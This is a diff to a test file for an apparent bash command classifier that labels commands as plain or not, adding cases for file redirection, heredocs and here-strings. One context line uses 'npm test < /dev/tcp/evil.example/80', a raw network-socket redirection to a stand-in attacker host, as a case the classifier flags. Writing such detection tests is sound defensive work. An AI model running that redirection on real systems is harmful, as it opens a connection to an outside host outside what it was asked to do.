@@ -6,7 +6,10 @@ const { parse, classify } = createShellJudge('bash');
 test.each<[string, readonly (readonly [words: readonly (string | null)[], isPlain: boolean])[]]>([
   ['npm test', [[['npm', 'test'], true]]],
   ['npm test 2>&1 >/dev/null', [[['npm', 'test'], true]]],
-  ['npm test < input.txt', [[['npm', 'test'], true]]],
+  ['npm test < input.txt', [[['npm', 'test'], false]]],
+  ['npm test < /dev/null', [[['npm', 'test'], true]]],
+  ['npm test <<EOF\nx\nEOF', [[['npm', 'test'], false]]],
+  ['npm test <<< x', [[['npm', 'test'], false]]],
   ['npm test < /dev/tcp/evil.example/80', [[['npm', 'test'], false]]],
   ['npm test < "$where"', [[['npm', 'test'], false]]],
   ['npm test > out.txt', [[['npm', 'test'], false]]],
